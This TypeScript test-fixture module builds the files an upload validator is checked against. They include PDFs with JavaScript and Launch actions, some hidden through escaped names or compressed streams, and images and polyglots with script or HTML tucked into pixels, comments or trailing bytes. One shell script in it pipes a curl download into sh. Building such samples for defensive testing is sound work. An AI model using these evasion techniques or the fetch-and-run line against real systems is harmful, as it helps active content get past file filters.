import { readdirSync } from 'node:fs'
import { request as httpRequest } from 'node:http'
import path from 'node:path'
import { crc32, deflateSync } from 'node:zlib'
import type { TestServer } from './testServer'

/** Hostile and harmless files, as bytes, for the upload tests. */

const bytes = (text: string) => Buffer.from(text, 'latin1')

export const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex')
export const JPEG = Buffer.concat([
  Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
  bytes('JFIF\0\x01\x01\0\0\x01\0\x01\0\0'),
  Buffer.alloc(64, 0x41),
  Buffer.from([0xff, 0xd9]),
])

/** A minimal PDF of the given objects (numbered from 1; the first is the catalog), readable without an xref. */
export function pdfOf(...objects: (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [bytes('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')]
  objects.forEach((object, index) => {
    parts.push(bytes(`${index + 1} 0 obj\n`), typeof object === 'string' ? bytes(object) : object)
    parts.push(bytes('\nendobj\n'))
  })
  parts.push(bytes('trailer\n<< /Root 1 0 R /Size ' + (objects.length + 1) + ' >>\n%%EOF\n'))
  return Buffer.concat(parts)
}

const PAGES = [
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
]

export const PLAIN_PDF = pdfOf('<< /Type /Catalog /Pages 2 0 R >>', ...PAGES)
/** Opens at its first page, fitted: an /OpenAction that is no script. */
export const PDF_OPENING_AT_PAGE = pdfOf(
  '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>',
  ...PAGES,
)
export const PDF_WITH_OPEN_SCRIPT = pdfOf(
  '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>',
  ...PAGES,
)
/** The same script with its names written in `#xx` escapes, which readers decode. */
export const PDF_WITH_ESCAPED_SCRIPT = pdfOf(
  '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >> >>',
  ...PAGES,
)
export const PDF_LAUNCHING = pdfOf(
  '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (calc.exe) >> >>',
  ...PAGES,
)
export const PDF_WITH_PAGE_ACTION = pdfOf(
  '<< /Type /Catalog /Pages 2 0 R >>',
  PAGES[0],
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O 4 0 R >> >>',
  '<< /S /URI /URI (https://example.com) >>',
)
export const PDF_WITH_ATTACHMENT = pdfOf(
  '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>',
  ...PAGES,
  '<< /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >>',
)

/** A script after a `stream` keyword inside a comment and a string, which must not hide what follows them. */
export const PDF_WITH_SCRIPT_AFTER_FAKE_STREAMS = pdfOf(
  '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
  ...PAGES,
  '% >> stream\n(>> stream\n) << /S /JavaScript /JS (app.alert\\(1\\)) >> (endstream)\n% endstream',
)

/** A PDF 1.5 object stream: the catalog's /OpenAction script compressed where a raw scan cannot see it. */
export function pdfWithCompressedScript(): Buffer {
  const objects = '4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>'
  const data = deflateSync(bytes(objects))
  const stream = Buffer.concat([
    bytes(`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n`),
    data,
    bytes('\nendstream'),
  ])
  return pdfOf('<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', ...PAGES, stream)
}

/** A PNG chunk: length, type, data and CRC. */
export function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const typed = Buffer.concat([bytes(type), data])
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(crc32(typed))
  return Buffer.concat([length, typed, crc])
}

/**
 * A one-row 8-bit grey PNG of these pixels, other chunks before its IDAT; deflate `level` 0 stores the pixels as
 * they are, so their bytes show in IDAT.
 */
export function pngOf(pixels: Buffer, { level = 9, chunks = [] as Buffer[] } = {}): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(pixels.length, 0)
  header.writeUInt32BE(1, 4)
  header.writeUInt8(8, 8)
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    ...chunks,
    pngChunk('IDAT', deflateSync(Buffer.concat([Buffer.from([0]), pixels]), { level })),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

const GREY = Buffer.alloc(16, 0x80)
/** Pixels spelling a script tag, stored in IDAT as they are: image data, which no reader takes as text. */
export const PNG_WITH_SCRIPT_PIXELS = pngOf(bytes('<script>alert(1)</script>'), { level: 0 })
/** The same with IEND cut off: a PNG that does not walk to its end is read whole. */
export const TRUNCATED_PNG_WITH_SCRIPT_PIXELS = PNG_WITH_SCRIPT_PIXELS.subarray(0, -12)
export const PNG_WITH_SCRIPT_TEXT = pngOf(GREY, {
  chunks: [pngChunk('tEXt', bytes('Comment\0<script>alert(1)</script>'))],
})
export const PNG_WITH_HTML_AFTER_END = Buffer.concat([pngOf(GREY), bytes('<html><body>hi')])

/** A JPEG marker segment: marker, length, body. */
const segment = (marker: number, body: Buffer) => {
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(body.length + 2, 2)
  return Buffer.concat([head, body])
}

/** Each 8x8 block: a 1-bit DC code (category 11), 11 bits of DC difference, a 1-bit end of block. */
const BLOCK_BITS = 13
const isCodeBit = (at: number) => at % BLOCK_BITS === 0 || at % BLOCK_BITS === BLOCK_BITS - 1

/** Whole blocks whose difference bits spell the text from a byte boundary (its bits on code bits must be 0). */
function blocksSpelling(text: Buffer): number[] {
  const wanted = [...text].flatMap((byte) => [7, 6, 5, 4, 3, 2, 1, 0].map((bit) => (byte >> bit) & 1))
  const lead = [...Array(BLOCK_BITS).keys()]
    .map((index) => index * 8)
    .find((offset) => wanted.every((bit, index) => bit === 0 || !isCodeBit(offset + index)))
  if (lead === undefined)
    throw new Error(`No block alignment spells ${JSON.stringify(text.toString('latin1'))}`)
  const length = Math.ceil((lead + wanted.length) / BLOCK_BITS) * BLOCK_BITS
  return [...Array<number>(lead).fill(0), ...wanted, ...Array<number>(length - lead - wanted.length).fill(0)]
}

/** Bits as entropy-coded bytes: padded with 1s to a byte, each 0xFF stuffed with a 0x00. */
function entropyCoded(bits: number[]): Buffer {
  const padded = [...bits, ...Array<number>((8 - (bits.length % 8)) % 8).fill(1)]
  const coded: number[] = []
  for (let at = 0; at < padded.length; at += 8) {
    const byte = padded.slice(at, at + 8).reduce((value, bit) => (value << 1) | bit, 0)
    coded.push(...(byte === 0xff ? [0xff, 0x00] : [byte]))
  }
  return Buffer.from(coded)
}

/**
 * A baseline grey JPEG, 8 pixels high, whose entropy-coded data spells each text in its own restart interval (RST
 * markers between them) and decodes as pixels, with a COM segment if given and bytes after its end of image.
 */
export function jpegSpelling(texts: string[], { comment = '', after = '' } = {}): Buffer {
  const intervals = texts.map((text) => blocksSpelling(bytes(text)))
  const blocks = Math.max(...intervals.map((bits) => bits.length / BLOCK_BITS))
  const scan = intervals.flatMap((bits, index) => [
    ...(index > 0 ? [Buffer.from([0xff, 0xd0 + ((index - 1) % 8)])] : []),
    entropyCoded([...bits, ...Array<number>(blocks * BLOCK_BITS - bits.length).fill(0)]),
  ])
  const frame = Buffer.from([8, 0, 8, 0, 0, 1, 1, 0x11, 0])
  frame.writeUInt16BE(blocks * texts.length * 8, 3)
  const restart = Buffer.alloc(2)
  restart.writeUInt16BE(blocks)
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xe0, bytes('JFIF\0\x01\x01\0\0\x01\0\x01\0\0')),
    ...(comment ? [segment(0xfe, bytes(comment))] : []),
    segment(0xdb, Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 1)])),
    segment(0xc0, frame),
    segment(0xc4, Buffer.from([0x00, 1, ...Array<number>(15).fill(0), 11])),
    segment(0xc4, Buffer.from([0x10, 1, ...Array<number>(15).fill(0), 0x00])),
    segment(0xdd, restart),
    segment(0xda, Buffer.from([1, 1, 0x00, 0, 63, 0])),
    ...scan,
    Buffer.from([0xff, 0xd9]),
    bytes(after),
  ])
}

/** Scan data with a stuffed 0xFF, a restart marker and then "<HTML>" (which lines up with the difference bits). */
export const JPEG_WITH_MARKUP_IN_SCAN = jpegSpelling(['\xff', '<HTML>'])
export const JPEG_WITH_SCRIPT_COMMENT = jpegSpelling(['\xff'], { comment: '<script>alert(1)</script>' })
export const JPEG_WITH_HTML_AFTER_END = jpegSpelling(['\xff'], { after: '<html><body>hi' })
/** A photo with a second JPEG after its end of image (as phones append gain maps and depth maps) spelling "<HTML>". */
export const JPEG_WITH_APPENDED_JPEG = Buffer.concat([jpegSpelling(['\xff']), JPEG_WITH_MARKUP_IN_SCAN])
/** The scan spelling "<HTML>" with no end of image: a JPEG that does not walk to its end is read whole. */
export const TRUNCATED_JPEG_WITH_MARKUP_IN_SCAN = JPEG_WITH_MARKUP_IN_SCAN.subarray(0, -2)

/** A stream object: its dictionary entries and /Length, then its data between `stream` and `endstream`. */
const streamObject = (entries: string, data: Buffer) =>
  Buffer.concat([bytes(`<< ${entries} /Length ${data.length} >>\nstream\n`), data, bytes('\nendstream')])

/** A width from a baseline JPEG's frame header. */
const jpegWidth = (jpeg: Buffer) => jpeg.readUInt16BE(jpeg.indexOf(Buffer.from([0xff, 0xc0])) + 7)

/** A page showing the JPEG whose scan data spells "<HTML>", as a DCTDecode image (the way scanners write PDFs). */
export const PDF_WITH_MARKUP_IN_IMAGE = pdfOf(
  '<< /Type /Catalog /Pages 2 0 R >>',
  PAGES[0],
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << /XObject << /Im1 4 0 R >> >> /Contents 5 0 R >>',
  streamObject(
    `/Type /XObject /Subtype /Image /Width ${jpegWidth(JPEG_WITH_MARKUP_IN_SCAN)} /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode`,
    JPEG_WITH_MARKUP_IN_SCAN,
  ),
  streamObject('', bytes('q 200 0 0 200 0 0 cm /Im1 Do Q')),
)
const withPage = (object: string | Buffer) => pdfOf('<< /Type /Catalog /Pages 2 0 R >>', ...PAGES, object)
export const PDF_WITH_SCRIPT_COMMENT = withPage('<< /Producer (Scanner) >> % <svg onload=alert(1)>')
/** Markup after a stream's `endstream`, in the same object. */
export const PDF_WITH_HTML_AFTER_STREAM = withPage(
  Buffer.concat([streamObject('', bytes('q Q')), bytes('\n<html><body>hi')]),
)
/** `stream` and `endstream` in comments and strings, which are no stream: the markup between them is read. */
export const PDF_WITH_HTML_IN_FAKE_STREAM = withPage(
  '<< >> % stream\n(stream) <iframe src=x> (endstream)\n% endstream',
)
/** A `stream` keyword with no dictionary before it, which no reader takes as a stream. */
export const PDF_WITH_HTML_IN_BARE_STREAM = withPage('[1 2] stream\n<html><body>hi\nendstream')
/** A stream with no `endstream`: the PDF does not walk, so it is read whole. */
export const PDF_WITH_HTML_IN_UNENDED_STREAM = withPage('<< /Length 99 >>\nstream\n<html><body>hi')

export const ELF = Buffer.concat([
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
  Buffer.alloc(8),
  Buffer.from([2, 0, 0x3e, 0, 1, 0, 0, 0]),
  Buffer.alloc(100),
])
export const MZ = Buffer.concat([
  bytes('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff'),
  Buffer.alloc(200, 1),
])
export const MACH_O = Buffer.concat([
  Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1, 3, 0, 0, 0]),
  Buffer.alloc(64),
])
export const SCRIPT = bytes('#!/bin/sh\ncurl https://example.com/x | sh\n')
export const SVG = bytes(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>\n',
)
export const HTML = bytes('<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>\n')
/** A valid PNG header with a page after it: a browser that sniffs it finds HTML. */
export const PNG_HTML = Buffer.concat([PNG, bytes('<html><script>alert(1)</script></html>')])
export const PDF_HTML = Buffer.concat([PLAIN_PDF, bytes('<iframe src="javascript:alert(1)"></iframe>\n')])
export const PDF_WITH_JAVASCRIPT_LINK = pdfOf(
  '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (JavaScript:alert\\(1\\)) >> >>',
  ...PAGES,
)

/** A stored (uncompressed) zip of the entries, as zip tools write one. */
export function zipOf(entries: Record<string, string>): Buffer {
  const locals: Buffer[] = []
  const centrals: Buffer[] = []
  let offset = 0
  for (const [name, text] of Object.entries(entries)) {
    const data = Buffer.from(text)
    const nameBytes = Buffer.from(name)
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4)
    local.writeUInt32LE(crc32(data), 14)
    local.writeUInt32LE(data.length, 18)
    local.writeUInt32LE(data.length, 22)
    local.writeUInt16LE(nameBytes.length, 26)
    const central = Buffer.alloc(46)
    central.writeUInt32LE(0x02014b50, 0)
    central.writeUInt16LE(20, 4)
    central.writeUInt16LE(20, 6)
    central.writeUInt32LE(crc32(data), 16)
    central.writeUInt32LE(data.length, 20)
    central.writeUInt32LE(data.length, 24)
    central.writeUInt16LE(nameBytes.length, 28)
    central.writeUInt32LE(offset, 42)
    locals.push(local, nameBytes, data)
    centrals.push(central, nameBytes)
    offset += local.length + nameBytes.length + data.length
  }
  const directory = Buffer.concat(centrals)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(centrals.length / 2, 8)
  end.writeUInt16LE(centrals.length / 2, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, directory, end])
}

export const ZIP = zipOf({ 'readme.txt': 'hello', 'run.bat': 'calc.exe' })
export const DOCX = zipOf({
  '[Content_Types].xml':
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
  '_rels/.rels': '<?xml version="1.0"?><Relationships/>',
  'word/document.xml': '<?xml version="1.0"?><w:document/>',
})
/** A JPEG with a zip after it: an image viewer and an unzip tool both open it. */
export const JPEG_ZIP = Buffer.concat([JPEG, ZIP])
export const GZIP = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0])
export const RAR = Buffer.concat([bytes('Rar!\x1a\x07\x01\x00'), Buffer.alloc(32)])
export const SEVEN_ZIP = Buffer.concat([
  Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]),
  Buffer.alloc(32),
])

/** A one-file ustar archive. */
export function tarOf(name: string, text: string): Buffer {
  const header = Buffer.alloc(512)
  header.write(name, 0)
  header.write('0000644\0', 100)
  header.write('0000000\0', 108)
  header.write('0000000\0', 116)
  header.write(`${text.length.toString(8).padStart(11, '0')}\0`, 124)
  header.write('00000000000\0', 136)
  header.write('        ', 148)
  header.write('0', 156)
  header.write('ustar\x0000', 257, 'latin1')
  const sum = header.reduce((total, byte) => total + byte, 0)
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148)
  const body = Buffer.alloc(Math.ceil(text.length / 512) * 512)
  body.write(text)
  return Buffer.concat([header, body, Buffer.alloc(1024)])
}

/** Every file in the server's uploads folder (temporary ones included). */
export const uploadedFiles = (server: TestServer) => readdirSync(path.join(server.folder, 'uploads')).sort()

export type RawAnswer = {
  status: number
  body: string
  headers: Record<string, string | string[] | undefined>
}

/** A POST of bytes exactly as given (a malformed form, say), with the client's headers and this content type. */
export function postRaw(
  server: TestServer,
  urlPath: string,
  contentType: string,
  body: Buffer,
  token?: string,
): Promise<RawAnswer> {
  return new Promise((resolve, reject) => {
    const sent = httpRequest(
      server.url + urlPath,
      {
        method: 'POST',
        headers: {
          'Content-Type': contentType,
          'Content-Length': body.length,
          'X-User-Type': 'operator',
          'X-Source': 'desktop',
          ...(token ? { Authorization: `Token ${token}` } : {}),
        },
      },
      (response) => {
        const chunks: Buffer[] = []
        response.on('data', (chunk: Buffer) => chunks.push(chunk))
        response.on('end', () =>
          resolve({
            status: response.statusCode ?? 0,
            body: Buffer.concat(chunks).toString(),
            headers: response.headers,
          }),
        )
      },
    )
    sent.on('error', reject)
    sent.end(body)
  })
}

/** A multipart body by hand: each part's headers and content, with this boundary. */
export function multipartBody(
  boundary: string,
  parts: { name: string; fileName?: string; data: Buffer | string }[],
): Buffer {
  return Buffer.concat([
    ...parts.flatMap((part) => [
      bytes(
        `--${boundary}\r\nContent-Disposition: form-data; name="${part.name}"${
          part.fileName === undefined ? '' : `; filename="${part.fileName}"`
        }\r\n${part.fileName === undefined ? '' : 'Content-Type: application/octet-stream\r\n'}\r\n`,
      ),
      typeof part.data === 'string' ? bytes(part.data) : part.data,
      bytes('\r\n'),
    ]),
    bytes(`--${boundary}--\r\n`),
  ])
}
